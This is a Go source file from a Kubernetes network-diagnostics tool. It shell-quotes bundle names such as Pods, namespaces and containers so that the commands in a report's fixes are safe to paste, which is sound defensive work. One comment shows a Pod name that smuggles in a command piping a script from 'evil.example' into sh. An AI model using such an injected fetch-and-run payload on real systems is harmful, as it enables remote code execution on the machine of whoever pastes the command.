package report

import (
	"cmp"
	"fmt"
	"slices"
	"strings"

	"github.com/netmortem/netmortem/analyzer"
	"github.com/netmortem/netmortem/internal/shq"
	"github.com/netmortem/netmortem/model"
)

// A finding's Decide and the code spans of its Fix are commands the reader
// pastes into a shell, and the rules build them from names in the bundle:
// a Pod, a Service, a namespace, a container. Kubernetes refuses names that
// hold shell syntax, but a bundle need not come from Kubernetes, and a Pod
// named "etcd-1$(curl -s evil.example/x|sh)" would run the payload when its
// command is pasted. pasteSafe is the last line of defence: each name of a
// finding (its Subject, its string Facts, the objects and files of its
// Evidence) or of the bundle (snapshotNames) that holds a character sh reads as syntax is quoted (package
// shq) wherever it appears in Decide or in a code span of Fix. Names of
// ordinary characters are left as they are, so nothing changes for a
// bundle Kubernetes would accept.

// shellSyntax are the characters sh gives a meaning to (besides the space,
// which splits a word but runs nothing) and the line breaks.
const shellSyntax = "$`\\\"'|&;<>()*?[]{}~#!\n\r"

// pasteSafe returns f with the names in its commands quoted for sh: its
// own (hostileNames) and extra, names of the bundle (snapshotNames).
func pasteSafe(f analyzer.Finding, extra ...string) analyzer.Finding {
	names := hostileNames(f, extra...)
	if len(names) == 0 {
		return f
	}
	quoted := make([]string, 0, 4*len(names))
	for _, n := range names {
		// A name the rule quoted already stays as it is: met first at
		// its opening quote, it is replaced by itself.
		quoted = append(quoted, shq.Quote(n), shq.Quote(n), n, shq.Quote(n))
	}
	quote := strings.NewReplacer(quoted...)
	if f.Decide != "" {
		f.Decide = quote.Replace(f.Decide)
	}
	if len(f.Candidates) > 0 {
		f.Candidates = slices.Clone(f.Candidates)
		for i := range f.Candidates {
			f.Candidates[i].Decide = quote.Replace(f.Candidates[i].Decide)
		}
	}
	if f.Fix != "" {
		var b strings.Builder
		for _, s := range splitSpans(f.Fix, names) {
			if s.code {
				b.WriteString("`" + quote.Replace(s.text) + "`")
			} else {
				b.WriteString(s.text)
			}
		}
		f.Fix = b.String()
	}
	return f
}

// hostileNames returns the names of f that hold shell syntax, longest
// first, so that a name is replaced before the shorter names inside it.
// An object "Pod ns/name" gives itself, "ns/name", "ns" and "name".
func hostileNames(f analyzer.Finding, extra ...string) []string {
	seen := map[string]bool{}
	var out []string
	add := func(s string) {
		if len(s) < 2 || seen[s] || !strings.ContainsAny(s, shellSyntax) {
			return // one character alone cannot run a command
		}
		seen[s] = true
		out = append(out, s)
	}
	addObject := func(s string) {
		add(s)
		if _, name, ok := strings.Cut(s, " "); ok {
			add(name)
			s = name
		}
		if ns, name, ok := strings.Cut(s, "/"); ok {
			add(ns)
			add(name)
		}
	}
	for _, v := range f.Subject {
		addObject(v)
	}
	var fact func(v any)
	fact = func(v any) {
		switch v := v.(type) {
		case string:
			addObject(v)
		case []string:
			for _, s := range v {
				addObject(s)
			}
		case []any:
			for _, x := range v {
				fact(x)
			}
		case map[string]any:
			for _, x := range v {
				fact(x)
			}
		case map[string]string:
			for _, x := range v {
				addObject(x)
			}
		case fmt.Stringer:
			addObject(v.String())
		}
	}
	for _, v := range f.Facts {
		fact(v)
	}
	for _, e := range f.Evidence {
		addObject(e.Pos.Object)
		add(e.Pos.File)
	}
	for _, s := range extra {
		add(s)
	}
	slices.SortFunc(out, func(a, b string) int {
		return cmp.Or(cmp.Compare(len(b), len(a)), strings.Compare(a, b))
	})
	return out
}

// span is a piece of a Fix: prose, or the text of a code span.
type span struct {
	text string
	code bool
}

// splitSpans splits s into prose and code spans (`...`), reading each of
// atoms as text that neither opens nor closes a span, whatever backticks it
// holds: a name from the bundle with a backtick in it does not end the
// command it is part of.
func splitSpans(s string, atoms []string) []span {
	var out []span
	var cur strings.Builder
	code := false
	flush := func() {
		if cur.Len() > 0 || code {
			out = append(out, span{cur.String(), code})
		}
		cur.Reset()
	}
	for i := 0; i < len(s); {
		if a := atomAt(s[i:], atoms); a != "" {
			cur.WriteString(a)
			i += len(a)
			continue
		}
		if s[i] == '`' {
			flush()
			code = !code
			i++
			continue
		}
		cur.WriteByte(s[i])
		i++
	}
	if code {
		// An unclosed span is prose with its backtick, as CommonMark reads it.
		out = append(out, span{"`" + cur.String(), false})
	} else if cur.Len() > 0 {
		out = append(out, span{cur.String(), false})
	}
	return out
}

// atomAt returns the first (so the longest) of atoms that s begins with.
func atomAt(s string, atoms []string) string {
	for _, a := range atoms {
		if strings.HasPrefix(s, a) {
			return a
		}
	}
	return ""
}

// snapshotNames are the names in snap that a rule may write into a
// command without recording them in its finding: the Kubernetes objects'
// names and namespaces, the Pods' containers, the network interfaces and
// their masters, the nodes, the input files. Only those holding shell
// syntax are kept: the others are never quoted.
func snapshotNames(snap *model.Snapshot) []string {
	if snap == nil {
		return nil
	}
	seen := map[string]bool{}
	var out []string
	add := func(ss ...string) {
		for _, s := range ss {
			if s != "" && !seen[s] && strings.ContainsAny(s, shellSyntax) {
				seen[s] = true
				out = append(out, s)
			}
		}
	}
	k := &snap.Kube
	for _, o := range k.Pods {
		add(o.Name, o.Namespace, o.Spec.NodeName)
		for _, c := range o.Spec.Containers {
			add(c.Name)
		}
	}
	for _, o := range k.Services {
		add(o.Name, o.Namespace)
	}
	for _, o := range k.Namespaces {
		add(o.Name)
	}
	for _, o := range k.Nodes {
		add(o.Name)
	}
	for _, o := range k.DaemonSets {
		add(o.Name, o.Namespace)
	}
	for _, l := range snap.Links {
		add(l.Dev, l.Master, l.Node)
	}
	for _, in := range snap.Inputs {
		add(in.Path, in.Node)
	}
	return out
}
